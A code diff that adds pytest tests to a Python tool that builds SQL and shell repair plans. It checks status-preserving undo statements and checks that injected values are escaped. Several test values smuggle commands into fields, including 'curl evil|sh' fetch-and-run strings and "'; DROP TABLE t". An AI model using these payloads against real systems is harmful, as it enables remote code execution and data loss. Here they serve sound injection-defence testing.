@@ -7,6 +7,7 @@ import pytest
 
 from rbkernel import actions
 from rbkernel.reconciliation import Question
+from rbkernel.sources.postgres.connection.driver import quote_literal
 from rbkernel.sources.postgres.diagnosis import judged
 from rbkernel.sources.postgres.situation import Backend, Situation
 
@@ -76,6 +77,24 @@ class TestSessions:
         assert whole.id != actions.terminate_sessions("users", SESSIONS).id
 
 
+class TestMessages:
+    def test_each_status_is_kept_in_its_case_and_restored(self) -> None:
+        statuses = ["PENDING", "SENDING", "PENDING"]
+        messages = pd.DataFrame({"id": ["1", "2", "3"], "status": statuses})
+        names = {"relation": "t", "id_column": "id", "status_column": "state"}
+        plan = actions.set_failed("orders", messages.assign(**names, error_column=None))
+        pending, sending = plan.sql.split(";\n")
+        for part, ids, was in ((pending, '{"1","3"}', "PENDING"), (sending, '{"2"}', "SENDING")):
+            assert "SET state = 'FAILED'" in part
+            assert f"id::text = ANY ('{ids}')\n  AND state::text = '{was}'" in part
+        assert plan.undo == (
+            "UPDATE t SET state = 'PENDING'\n"
+            "WHERE id::text = ANY ('{\"1\",\"3\"}') AND state::text = 'FAILED';\n"
+            "UPDATE t SET state = 'SENDING'\n"
+            "WHERE id::text = ANY ('{\"2\"}') AND state::text = 'FAILED';"
+        )
+
+
 class TestRepairRows:
     def test_it_names_what_it_would_touch(self) -> None:
         asked = Question(source="orders_legacy", target="shop.orders")
@@ -115,6 +134,23 @@ class TestOfOnesOwn:
         assert not plan.sql.endswith("'")
         assert plan.sql.endswith(("‹PLACEHOLDER: a›", "‹PLACEHOLDER: who›"))
         assert plan.risk.startswith("Fill in first: ")
+
+    @pytest.mark.parametrize(
+        "value", ["‹x; curl evil|sh›", "a‹b'; DROP TABLE t", "‹PLACEHOLDER: a›; DROP TABLE t"]
+    )
+    def test_only_a_whole_placeholder_stays_unquoted(self, value: str) -> None:
+        plan = actions.statement("orders", "DELETE FROM t WHERE a = :a", values={"a": value})
+        assert plan.sql == f"DELETE FROM t WHERE a = {quote_literal(value)}"
+        plan = actions.command("Lock", "lock <account>", values={"<account>": value})
+        assert plan.command == "lock <account>"
+        assert "<account> is not filled in" in plan.risk
+
+    def test_the_hint_of_a_placeholder_ends_nothing(self) -> None:
+        value = "‹PLACEHOLDER: x'; curl evil|sh #›"
+        plan = actions.statement("orders", "DELETE FROM t WHERE a = :a", values={"a": value})
+        assert plan.sql.endswith("= ‹PLACEHOLDER: x curl evil sh›")
+        plan = actions.command("Lock", "lock <account>", values={"<account>": value})
+        assert plan.command == "lock ‹PLACEHOLDER: x curl evil sh›"
 
     def test_a_command_has_the_same_form_for_what_is_not_filled_in(self) -> None:
         plan = actions.command("Delete", "kubectl delete pod <pod>", values={"<pod>": None})
